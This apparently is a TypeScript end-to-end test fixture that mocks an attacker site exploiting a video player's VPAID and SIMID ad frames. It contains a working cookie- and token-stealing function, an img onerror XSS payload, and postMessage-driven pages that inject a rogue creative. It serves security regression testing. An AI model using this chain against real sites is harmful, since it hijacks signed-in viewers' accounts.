import { serveSite, type HostPageOptions, type OtherOriginHost } from './other-origin-host';

// A site that frames the player's ad frames and drives them as the player would, to run its own
// code at the player's origin and take the signed-in viewer's account (the security finding of
// vpaid-frame.html and the SIMID survey). Shared by e2e/ad-frame-isolation.spec.ts and the journey.

/** What the attacker's code sends its page from wherever it ran. */
export interface StolenReport {
  from: string;
  /** The origin the code ran at: 'null' in a sandboxed frame. */
  origin: string;
  /** document.cookie, or the name of the error reading it threw. */
  cookie: string;
  /** The viewer's /auth/user/details, or what came instead (a status, an error's name). */
  details: unknown;
}

/** The viewer's token the attacker is after, as the player keeps it. */
export const tokenCookie = 'authToken';

/** The VPAID frame's channel, which its URL's hash names: here the attacker chooses it. */
export const attackChannel = 'attacker-channel';

/**
 * The attacker's code: reads the cookies, calls the auth service as the viewer with the token it
 * found, and tells the attacker's page (the frame's parent). Runs alone, serialised: it closes
 * over nothing.
 */
export function stealAndReport(from: string): void {
  const report = { from, origin: String(self.origin), cookie: '', details: undefined as unknown };
  const send = () => parent.postMessage({ stolen: report }, '*');
  try {
    report.cookie = document.cookie;
  } catch (error) {
    report.cookie = (error as Error).name;
  }
  const token = /(?:^|;\s*)authToken=([^;]*)/.exec(report.cookie)?.[1] ?? '';
  fetch('/auth/user/details', { headers: { Authorization: `Bearer ${decodeURIComponent(token)}` } })
    .then(
      async (response) => (report.details = response.ok ? await response.json() : response.status),
    )
    .catch((error: Error) => (report.details = error.name))
    .finally(send);
}

const escapeAttribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** A survey question that, written as markup, runs the attacker's code in an inline handler. */
export const markupQuestion = `<img src=x onerror="${escapeAttribute(`(${stealAndReport})('simid')`)}">`;

/** The attacker's page: runs one of the page functions below, with its argument. */
const page = (script: (arg: never) => void, arg: unknown) =>
  `<!doctype html><html lang="en"><title>Another site</title><body>
<script>(${script})(${JSON.stringify(arg)})</script></body></html>`;

/**
 * In the attacker's page: frames the VPAID frame on a channel of its choosing; window.attack()
 * then sends it the player's init with the attacker's script as the creative, and a message after
 * it (once the frame has that one, it has had the init). What comes back is in window.stolen.
 */
function vpaidAttackPage({ frameUrl, channel }: { frameUrl: string; channel: string }): void {
  const state = window as unknown as { stolen: unknown[]; frameLoaded: boolean; attack(): void };
  state.stolen = [];
  addEventListener('message', (event) => {
    if (event.data?.stolen) state.stolen.push(event.data.stolen);
  });
  const frame = document.createElement('iframe');
  frame.src = `${frameUrl}#${channel}`;
  frame.addEventListener('load', () => (state.frameLoaded = true), { once: true });
  document.body.append(frame);
  state.attack = () => {
    const init = { type: 'init', adParameters: '', width: 640, height: 360, volume: 0 };
    const creativeUrl = new URL('/steal.js', location.href).href;
    frame.contentWindow?.postMessage({ ...init, channel, creativeUrl }, '*');
    frame.contentWindow?.postMessage({ channel, type: 'after-init' }, '*');
  };
}

/**
 * In the attacker's page: frames the SIMID survey and answers it as a player (SIMID 1.2 section 8;
 * media/simid/simid_protocol.js): resolves its createSession, then sends Player:init with the
 * question as the AdParameters, and Player:startCreative, whose survey writes the question.
 */
function simidAttackPage({ creativeUrl, question }: { creativeUrl: string; question: string }) {
  const state = window as unknown as { stolen: unknown[] };
  state.stolen = [];
  const frame = document.createElement('iframe');
  frame.src = creativeUrl;
  let messageId = 0;
  const send = (sessionId: string, type: string, args: unknown) =>
    frame.contentWindow?.postMessage(
      JSON.stringify({ sessionId, messageId: messageId++, timestamp: Date.now(), type, args }),
      '*',
    );
  addEventListener('message', (event) => {
    if (event.data?.stolen) return void state.stolen.push(event.data.stolen);
    if (event.source !== frame.contentWindow || typeof event.data !== 'string') return;
    const message = JSON.parse(event.data);
    if (message.type !== 'createSession') return;
    send(message.sessionId, 'resolve', { messageId: message.messageId });
    const adParameters = JSON.stringify([{ question, answers: ['Да', 'Нет', 'Иногда'] }]);
    const dimensions = { x: 0, y: 0, width: 640, height: 360 };
    send(message.sessionId, 'SIMID:Player:init', {
      creativeData: { adParameters },
      environmentData: {
        muted: true,
        volume: 0,
        videoDimensions: dimensions,
        creativeDimensions: dimensions,
      },
    });
    send(message.sessionId, 'SIMID:Player:startCreative', {});
  });
  document.body.append(frame);
}

/**
 * The attacker's site, on another origin than the player's server: /vpaid (framing the VPAID
 * frame), /simid (framing the survey) and /steal.js (its "creative").
 */
export function serveAttackerSite(
  serverUrl: string,
  options: HostPageOptions = {},
): Promise<OtherOriginHost> {
  return serveSite(
    {
      '/vpaid': page(vpaidAttackPage, {
        frameUrl: `${serverUrl}/player/vpaid-frame.html`,
        channel: attackChannel,
      }),
      '/simid': page(simidAttackPage, {
        creativeUrl: `${serverUrl}/media/simid/creatives/survey.html`,
        question: markupQuestion,
      }),
      '/steal.js': `(${stealAndReport})('vpaid');`,
    },
    options,
  );
}

/** What the attacker's page has been sent, read in that page. */
export function stolenReports(): StolenReport[] {
  return (window as unknown as { stolen?: StolenReport[] }).stolen ?? [];
}

/**
 * Read in the VPAID frame (by the test, not the attacker): starts noting the message that follows
 * the attacker's init.
 */
export function noteAfterInit(): void {
  addEventListener('message', (event) => {
    if (event.data?.type === 'after-init') Object.assign(window, { afterInitSeen: true });
  });
}

/** Read in the VPAID frame: whether it had the attacker's init, and whether it loaded its script. */
export function vpaidFrameState(): { afterInitSeen: boolean; loadedAttackScript: boolean } {
  return {
    afterInitSeen: 'afterInitSeen' in window,
    loadedAttackScript: document.querySelector('script[src$="/steal.js"]') !== null,
  };
}

/** Read in the survey frame: the question as it shows, once shown. */
export function surveyQuestion(): string | undefined {
  const shown = document.querySelector('#question.showing');
  return shown ? (document.getElementById('current-question')?.textContent ?? '') : undefined;
}

/** Read in an ad frame: what any code there could reach (its origin, the cookies). */
export function frameReach(): { origin: string; cookie: string } {
  try {
    return { origin: self.origin, cookie: document.cookie };
  } catch (error) {
    return { origin: self.origin, cookie: (error as Error).name };
  }
}
